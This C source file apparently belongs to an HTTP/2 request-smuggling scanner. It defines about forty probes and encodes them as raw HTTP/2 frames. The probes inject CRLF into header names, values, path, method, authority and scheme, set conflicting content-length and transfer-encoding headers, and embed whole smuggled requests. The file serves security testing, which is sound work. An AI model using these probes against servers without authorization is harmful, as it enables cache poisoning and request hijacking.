/*
 * h2probes.c - see h2probes.h.
 */
#include "config.h"

#include "h2probes.h"

#include <stdint.h>
#include <string.h>

#include "base/mem.h"
#include "probes.h"

#define LAST "0\r\n\r\n"

/* clang-format off */
const struct h2_probe H2_PROBES[] = {
	{ .name = "an honest body", .headers = { { "content-length", "$L" } },
	  .body = "$S" },
	{ .name = "a body without length", .body = "$S" },
	{ .name = "a body of a GET", .method = "GET", .body = "$S" },
	{ .name = "length 0", .headers = { { "content-length", "0" } },
	  .body = "$S" },
	{ .name = "length too large", .headers = { { "content-length", "$M" } },
	  .body = "$S" },
	{ .name = "length of a GET without body", .method = "GET",
	  .headers = { { "content-length", "$L" } } },
	{ .name = "two lengths",
	  .headers = { { "content-length", "$L" }, { "content-length", "0" } },
	  .body = "$S" },
	{ .name = "a list of lengths",
	  .headers = { { "content-length", "$L, 0" } }, .body = "$S" },
	{ .name = "plus", .headers = { { "content-length", "+0" } },
	  .body = "$S" },
	{ .name = "an encoding",
	  .headers = { { "transfer-encoding", "chunked" } },
	  .body = LAST "$S" },
	{ .name = "an encoding and a length",
	  .headers = { { "transfer-encoding", "chunked" },
		       { "content-length", "$M" } }, .body = LAST "$S" },
	{ .name = "te", .headers = { { "te", "trailers, chunked" } },
	  .body = LAST "$S" },
	{ .name = "connection",
	  .headers = { { "connection", "content-length" },
		       { "content-length", "$L" } }, .body = "$S" },
	{ .name = "upper case",
	  .headers = { { "Transfer-Encoding", "chunked" } },
	  .body = LAST "$S" },
	{ .name = "a line more in a value",
	  .headers = { { "x-a", "b\r\nTransfer-Encoding: chunked" } },
	  .body = LAST "$S" },
	{ .name = "a LF in a value",
	  .headers = { { "x-a", "b\nTransfer-Encoding: chunked" } },
	  .body = LAST "$S" },
	{ .name = "a CR in a value",
	  .headers = { { "x-a", "b\rTransfer-Encoding: chunked" } },
	  .body = LAST "$S" },
	{ .name = "a NUL in a value",
	  .headers = { { "x-a", "b$0c" } }, .body = LAST "$S" },
	{ .name = "a request in a value", .method = "GET",
	  .headers = { { "x-a", "b\r\n\r\n$S" } } },
	{ .name = "a line in a name",
	  .headers = { { "x-a: b\r\ntransfer-encoding", "chunked" } },
	  .body = LAST "$S" },
	{ .name = "a colon in a name",
	  .headers = { { "transfer-encoding:", "chunked" } },
	  .body = LAST "$S" },
	{ .name = "a blank in a name",
	  .headers = { { "transfer-encoding ", "chunked" } },
	  .body = LAST "$S" },
	{ .name = "an empty name",
	  .headers = { { "", "transfer-encoding: chunked" } },
	  .body = LAST "$S" },
	{ .name = "a tab before the value",
	  .headers = { { "transfer-encoding", "\tchunked" } },
	  .body = LAST "$S" },
	{ .name = "lines in the path",
	  .path = "$P HTTP/1.1\r\nTransfer-Encoding: chunked\r\nX-B: c",
	  .body = LAST "$S" },
	{ .name = "a request in the path", .method = "GET",
	  .path = "$P HTTP/1.1\r\nHost: a\r\n\r\n$S" },
	{ .name = "a blank in the path", .path = "$P HTTP/1.0", .body = "$S" },
	{ .name = "no slash", .path = "probe", .body = "$S" },
	{ .name = "absolute path", .path = "http://b$P", .body = "$S" },
	{ .name = "a line in the method",
	  .method = "GET $P HTTP/1.1\r\nTransfer-Encoding: chunked\r\nX-B: c",
	  .body = LAST "$S" },
	{ .name = "a blank in the method", .method = "GET $P", .body = "$S" },
	{ .name = "a line in the authority",
	  .authority = "a\r\nTransfer-Encoding: chunked", .body = LAST "$S" },
	{ .name = "a path in the authority", .authority = "a/b",
	  .body = "$S" },
	{ .name = "another host", .headers = { { "host", "b" } },
	  .body = "$S" },
	{ .name = "two more hosts",
	  .headers = { { "host", "a" }, { "host", "b" } }, .body = "$S" },
	{ .name = "a line in the scheme",
	  .scheme = "http\r\nTransfer-Encoding: chunked", .body = LAST "$S" },
	{ .name = "a request in the scheme",
	  .scheme = "http://a/smuggled?", .body = "$S" },
	{ .name = "an upgrade", .method = "GET",
	  .headers = { { "connection", "upgrade" },
		       { "upgrade", "websocket" } } },
	{ .name = "Expect", .headers = { { "expect", "100-continue" } },
	  .body = "$S" },
	{ .name = "a length behind", .body = "$S",
	  .trailer = { "content-length", "0" } },
	{ .name = "an encoding behind", .body = LAST "$S",
	  .trailer = { "transfer-encoding", "chunked" } },
	{ .name = "a path behind", .body = "$S",
	  .trailer = { ":path", "/smuggled" } },
};
/* clang-format on */
const unsigned N_H2_PROBES = sizeof(H2_PROBES) / sizeof(H2_PROBES[0]);

/* RFC 9113, section 6 */
enum {
	F_DATA = 0,
	F_HEADERS = 1,
	F_RST_STREAM = 3,
	F_SETTINGS = 4,
	F_GOAWAY = 7
};
enum { END_STREAM = 1, END_HEADERS = 4 };

struct out {
	unsigned char bytes[16384];
	size_t n;
	const char *path, *smuggled;
};

static void put(struct out *o, const void *p, size_t len)
{
	if (o->n + len > sizeof(o->bytes))
		len = sizeof(o->bytes) - o->n;
	memcpy(o->bytes + o->n, p, len);
	o->n += len;
}

static void put_byte(struct out *o, unsigned byte)
{
	unsigned char c = (unsigned char)byte;

	put(o, &c, 1);
}

/* A string without Huffman code; RFC 7541, 5.2. */
static void put_string(struct out *o, const char *text)
{
	size_t len, rest;
	char *s = probe_expand(text, o->path, o->smuggled, &len);

	if (len < 127) {
		put_byte(o, (unsigned)len);
	} else {
		put_byte(o, 127);
		for (rest = len - 127; rest >= 128; rest /= 128)
			put_byte(o, (unsigned)(rest % 128) | 128);
		put_byte(o, (unsigned)rest);
	}
	put(o, s, len);
	tl_free(s);
}

/* A literal with a name of its own, not indexed; 6.2.2. */
static void put_header(struct out *o, const char *name, const char *value)
{
	put_byte(o, 0);
	put_string(o, name);
	put_string(o, value);
}

static size_t begin_frame(struct out *o, unsigned type, unsigned flags,
			  unsigned stream)
{
	const unsigned char head[9] = {
		0, 0, 0, (unsigned char)type,  (unsigned char)flags,
		0, 0, 0, (unsigned char)stream
	};

	put(o, head, sizeof(head));
	return o->n;
}

static void end_frame(struct out *o, size_t begin)
{
	size_t len = o->n - begin;

	o->bytes[begin - 8] = (unsigned char)(len >> 8);
	o->bytes[begin - 7] = (unsigned char)len;
}

static const char *or_usual(const char *text, const char *usual)
{
	return text != NULL ? text : usual;
}

static void put_head(struct out *o, const struct h2_probe *p, unsigned stream,
		     const char *id, bool last)
{
	size_t at = begin_frame(o, F_HEADERS,
				last ? END_HEADERS | END_STREAM : END_HEADERS,
				stream);

	put_header(o, ":method", or_usual(p->method, "POST"));
	put_header(o, ":scheme", or_usual(p->scheme, "http"));
	put_header(o, ":authority", or_usual(p->authority, "a"));
	put_header(o, ":path", or_usual(p->path, "$P"));
	put_header(o, "x-request-id", id);
	for (int i = 0; i < H2_HEADERS && p->headers[i][0] != NULL; i++)
		put_header(o, p->headers[i][0], p->headers[i][1]);
	end_frame(o, at);
}

static void put_body(struct out *o, const struct h2_probe *p)
{
	size_t at = begin_frame(o, F_DATA,
				p->trailer[0] != NULL ? 0 : END_STREAM, 1);
	size_t len;
	char *body = probe_expand(p->body, o->path, o->smuggled, &len);

	put(o, body, len);
	end_frame(o, at);
	tl_free(body);
	if (p->trailer[0] == NULL)
		return;
	at = begin_frame(o, F_HEADERS, END_HEADERS | END_STREAM, 1);
	put_header(o, p->trailer[0], p->trailer[1]);
	end_frame(o, at);
}

char *h2_bytes(const struct h2_probe *p, const struct h2_request *own,
	       const char *smuggled, const struct h2_request *next,
	       size_t *len_r)
{
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	static const struct h2_probe honest = { .method = "GET" };
	struct out *o = tl_alloc(sizeof(*o));
	char *bytes;

	o->path = own->path;
	o->smuggled = smuggled;
	put(o, preface, strlen(preface));
	end_frame(o, begin_frame(o, F_SETTINGS, 0, 0));
	put_head(o, p, 1, own->id, p->body == NULL);
	if (p->body != NULL)
		put_body(o, p);
	o->path = next->path;
	put_head(o, &honest, 3, next->id, true);
	*len_r = o->n;
	bytes = tl_memdup(o->bytes, o->n);
	tl_free(o);
	return bytes;
}

bool h2_done(const char *bytes, size_t len)
{
	const unsigned char *p = (const unsigned char *)bytes;

	while (len >= 9) {
		size_t n = 9 + ((size_t)p[0] << 16 | (size_t)p[1] << 8 | p[2]);
		bool last = (p[3] == F_DATA || p[3] == F_HEADERS) &&
			    (p[4] & END_STREAM) != 0;

		if (n > len)
			return false;
		if (p[3] == F_GOAWAY ||
		    (p[8] == 3 && (last || p[3] == F_RST_STREAM)))
			return true;
		p += n;
		len -= n;
	}
	return false;
}
